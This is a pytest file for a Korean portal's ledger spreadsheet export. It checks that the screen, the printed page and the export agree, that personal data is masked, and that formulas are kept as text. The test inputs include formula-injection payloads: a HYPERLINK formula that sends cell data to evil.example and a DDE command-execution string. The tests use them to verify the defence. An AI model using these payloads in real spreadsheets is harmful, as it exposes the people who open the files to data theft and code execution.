"""The ledger as a spreadsheet: the same rows, typed, masked, and nothing computed."""

from __future__ import annotations

from datetime import timedelta

import pytest
from flask import Flask

import factories
from client import PageClient
from documents.reading import packed, text_of
from ledger.sheets import moment, number_formats, rows_of, sheet_xml, styles_xml
from ledger.test_pages import entered
from portal import clock
from portal.documents.text import korean_datetime, printable
from portal.ledger import search
from portal.ledger.export import export_rows
from portal.ledger.paper import approval_titles, paper_row, print_rows
from portal.roles import Role

FORMULA = '=HYPERLINK("http://evil.example?"&A1,"누르세요")'


def three_rows() -> int:
    second = clock.now() - timedelta(hours=3)
    entered(applicant_name="김하나", reason="폭언 사실 확인", remarks="일부만료")
    entered(
        factories.recording(),
        factories.recording(called_at=second, caller="2201", callee="021239999"),
        applicant_name="이두리",
        disclosure_type="provision",
        reason="안내 내용 확인",
    )
    entered(applicant_name="박세찬", reason=FORMULA)
    return clock.today().year


def test_screen_paper_and_export_agree_row_by_row(client: PageClient) -> None:
    year = three_rows()
    rows = search.rows_of_year(year)
    titles = approval_titles(rows)

    listed = packed(client.log_in(factories.account(Role.AUDITOR)).get("/ledger").text)
    paper = text_of(print_rows(rows, f"{year}년"))
    plain = rows_of(export_rows(rows, year, made_at=clock.now(), unmasked=True))[1:]
    masked = rows_of(export_rows(rows, year, made_at=clock.now()))[1:]

    assert [line[0] for line in plain] == [row.serial for row in rows]
    for row, cells, hidden in zip(rows, plain, masked, strict=True):
        printed = paper_row(row, titles)
        number, control, kind, name, place, called, numbers, reason, basis, giver, taker = cells[
            :11
        ]
        assert (str(int(number)), name, place) == (
            printed.number, printed.applicant, printed.affiliation_or_address,
        )  # fmt: skip
        assert str(numbers).splitlines() == list(printed.phone_numbers)
        if len(printed.called_at) == 1:
            assert moment(called) == clock.seoul(printed.called_at[0]).replace(
                tzinfo=None, second=0, microsecond=0
            )
        else:
            assert str(called).splitlines() == [korean_datetime(at) for at in printed.called_at]
        assert (reason, basis, giver, taker) == (
            printed.reason, printed.legal_basis, printed.transferor, printed.transferee,
        )  # fmt: skip
        assert tuple(cells[11 : 11 + len(titles)]) == printed.approvals
        assert cells[11 + len(titles)] == printed.remarks
        for value in (name, place, reason, basis, giver, *str(numbers).splitlines()):
            assert packed(str(value)) in paper, value
        for value in (control, kind, giver, hidden[3], hidden[4], *str(hidden[6]).splitlines()):
            assert packed(str(value)) in listed, value


def test_the_export_masks_what_the_screen_masks(app: Flask) -> None:
    year = three_rows()
    text = str(rows_of(export_rows(search.rows_of_year(year), year, made_at=clock.now())))

    assert "김*나" in text and "010-****-5678" in text and "경기도 이천시 …" in text
    for told in ("김하나", "이두리", "박세찬", "1234-5678", "부악로"):
        assert told not in text


@pytest.mark.parametrize(
    "typed",
    [FORMULA, "=1+1", "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0",
     "\u200b=1+1", "http://evil.example/", "﹦1+1"],
)  # fmt: skip
def test_typed_formulas_and_control_characters_stay_text(app: Flask, typed: str) -> None:
    entered(reason=typed, remarks=typed)
    year = clock.today().year

    book = export_rows(search.rows_of_year(year), year, made_at=clock.now())

    cells = rows_of(book)[1]  # reading fails on a formula
    assert cells[7] == printable(typed).strip() == cells[13]
    assert "<f>" not in sheet_xml(book) and "<hyperlink" not in sheet_xml(book)
    # Where a program would compute it when the cell is edited, it is marked as text as well.
    marked = 'quotePrefix="1"' in styles_xml(book)
    assert marked or not str(cells[7]).startswith(("=", "+", "-", "@"))


def test_the_sheet_has_types_widths_a_frozen_head_and_a_filter(app: Flask) -> None:
    year = three_rows()
    rows = search.rows_of_year(year)

    book = export_rows(rows, year, made_at=clock.now())

    xml = sheet_xml(book)
    assert 'state="frozen"' in xml and 'topLeftCell="C2"' in xml
    assert '<autoFilter ref="A1:O4"' in xml and "<cols>" in xml
    assert "yyyy. m. d. hh:mm" in number_formats(book)
    assert isinstance(rows_of(book)[1][0], float)


def test_a_year_without_rows_exports_its_head(app: Flask) -> None:
    book = export_rows([], 2026, made_at=clock.now())

    assert len(rows_of(book)) == 1
